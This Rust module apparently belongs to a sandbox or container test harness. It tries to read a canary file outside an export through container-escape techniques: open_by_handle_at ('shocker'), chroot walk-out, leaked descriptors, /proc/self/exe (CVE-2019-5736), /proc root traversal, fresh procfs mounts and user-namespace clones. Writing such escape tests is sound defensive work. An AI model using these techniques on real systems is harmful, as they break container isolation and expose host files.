//! Ways to a file outside of the export: handles, chroot, leaked descriptors, procfs.

use std::os::fd::AsFd as _;
use std::path::PathBuf;

use rustix::fs::CWD;

use super::{Act, Outcome, Scene, first_of, read, read_at, unprepared};
use crate::raw::{self, number, pointer, text};
use crate::task::{Failure, Gain};

pub(super) const ACTS: &[(&str, Act)] = &[
    ("handle", handle),
    ("walk-out", walk_out),
    ("leak-openat", leak_openat),
    ("leak-fchdir", leak_fchdir),
    ("leak-over", leak_openat),
    ("proc-exe", proc_exe),
    ("proc-root", proc_root),
    ("proc-numbers", proc_numbers),
    ("proc-mount", proc_mount),
    ("proc-fsopen", proc_fsopen),
    ("clone-user", clone_user),
    ("clone3-user", clone3_user),
    ("fork", fork),
];

/// open_by_handle_at(2) of the canary ("shocker").
fn handle(scene: &Scene) -> Outcome {
    let handle = scene.task.handle.as_ref();
    let handle = handle.ok_or_else(|| Failure::Unprepared("no handle".to_owned()))?;
    let directory = scene.directory()?;
    let size = u32::try_from(handle.bytes.len()).map_err(unprepared("handle"))?;
    let mut buffer = Vec::with_capacity(8 + handle.bytes.len());
    buffer.extend(size.to_ne_bytes());
    buffer.extend(handle.kind.to_ne_bytes());
    buffer.extend(&handle.bytes);
    scene.begin();
    let file = raw::open(
        libc::SYS_open_by_handle_at,
        [
            raw::descriptor(&directory),
            pointer(buffer.as_slice()),
            number(libc::O_RDONLY),
            0,
            0,
            0,
        ],
    )?;
    read(file)
}

/// chroot(2) below the working directory, then up: chroot(2) says that root leaves this way.
fn walk_out(scene: &Scene) -> Outcome {
    scene.make_directory("below")?;
    scene.begin();
    rustix::process::chroot("below")?;
    for _ in 0..64 {
        rustix::process::chdir("..")?;
    }
    rustix::process::chroot(".")?;
    read_at(CWD, scene.canary())
}

/// A directory outside, under a number that should have been closed.
fn leak_openat(scene: &Scene) -> Outcome {
    let leaked = number(scene.planted()?);
    scene.begin();
    let arguments = [leaked, text(c"canary"), number(libc::O_RDONLY), 0, 0, 0];
    read(raw::open(libc::SYS_openat, arguments)?)
}

fn leak_fchdir(scene: &Scene) -> Outcome {
    let leaked = number(scene.planted()?);
    scene.begin();
    raw::call(libc::SYS_fchdir, [leaked, 0, 0, 0, 0, 0])?;
    read_at(CWD, "canary")
}

/// The running program, which lies outside: the way of CVE-2019-5736.
fn proc_exe(scene: &Scene) -> Outcome {
    scene.begin();
    let mut last = Failure::Nothing("no path".to_owned());
    for (dir, path) in [
        (scene.proc_fd.as_fd(), "../exe"),
        (scene.proc_fd.as_fd(), "../../self/exe"),
        (CWD, "/proc/self/exe"),
    ] {
        match read_at(dir, path) {
            Ok(Gain::Bytes(bytes)) if bytes.starts_with(b"\x7fELF") => {
                return Ok(Gain::Effect(format!("read the host's program by {path}")));
            }
            Ok(gain) => last = Failure::Nothing(format!("{gain:?}")),
            Err(why) => last = why,
        }
    }
    Err(last)
}

/// From the descriptor of `/proc/self/fd` to the root directory of another process.
fn proc_root(scene: &Scene) -> Outcome {
    let mut paths: Vec<PathBuf> = vec!["../canary".into(), "../../../outside/canary".into()];
    paths.extend(roots(scene, "../../"));
    for root in [
        "../root",
        "../cwd",
        "../../self/root",
        "../../thread-self/root",
        "../../../..",
        "/proc/1/root",
        "/proc/self/root",
    ] {
        paths.push(scene.canary_below(root));
    }
    scene.begin();
    first_of(&scene.proc_fd, &paths)
}

/// Every descriptor that is open, opened again by its number, and what lies below and above it.
fn proc_numbers(scene: &Scene) -> Outcome {
    let paths: Vec<PathBuf> = (0..64)
        .flat_map(|number| {
            [
                PathBuf::from(format!("{number}/canary")),
                PathBuf::from(format!("{number}/../outside/canary")),
                scene.canary_below(&format!("{number}")),
                scene.canary_below(&format!("{number}/../../1/root")),
            ]
        })
        .collect();
    scene.begin();
    first_of(&scene.proc_fd, &paths)
}

/// By the root directories of the host's init and of the tool, below a /proc.
fn roots(scene: &Scene, proc: &str) -> Vec<PathBuf> {
    [1, scene.task.pid]
        .iter()
        .map(|pid| scene.canary_below(&format!("{proc}{pid}/root")))
        .collect()
}

/// A /proc of one's own, whose `1/root` is the host's.
fn proc_mount(scene: &Scene) -> Outcome {
    scene.make_directory("proc")?;
    let kind = text(c"proc");
    scene.begin();
    raw::call(libc::SYS_mount, [kind, text(c"/proc"), kind, 0, 0, 0])?;
    first_of(CWD, &roots(scene, "/proc/"))
}

/// The same, mounted nowhere.
fn proc_fsopen(scene: &Scene) -> Outcome {
    let create = number(6_i32); // FSCONFIG_CMD_CREATE
    scene.begin();
    let context = raw::open(libc::SYS_fsopen, [text(c"proc"), 0, 0, 0, 0, 0])?;
    let context = raw::descriptor(&context);
    raw::call(libc::SYS_fsconfig, [context, create, 0, 0, 0, 0])?;
    let proc = raw::open(libc::SYS_fsmount, [context, 0, 0, 0, 0, 0])?;
    first_of(&proc, &roots(scene, ""))
}

/// A child in a user namespace of its own.
fn clone_user(scene: &Scene) -> Outcome {
    scene.begin();
    let pid = raw::clone_that_ends(libc::CLONE_NEWUSER)?;
    Ok(reaped(
        pid,
        "a process with all capabilities in a new user namespace",
    ))
}

fn clone3_user(scene: &Scene) -> Outcome {
    scene.begin();
    let pid = raw::clone3_that_ends(libc::CLONE_NEWUSER)?;
    Ok(reaped(
        pid,
        "a process with all capabilities in a new user namespace",
    ))
}

fn fork(scene: &Scene) -> Outcome {
    scene.begin();
    let pid = raw::clone_that_ends(0)?;
    Ok(reaped(pid, "another process"))
}

fn reaped(pid: i32, gain: &str) -> Gain {
    let _gone = nix::sys::wait::waitpid(nix::unistd::Pid::from_raw(pid), None);
    Gain::Effect(gain.to_owned())
}
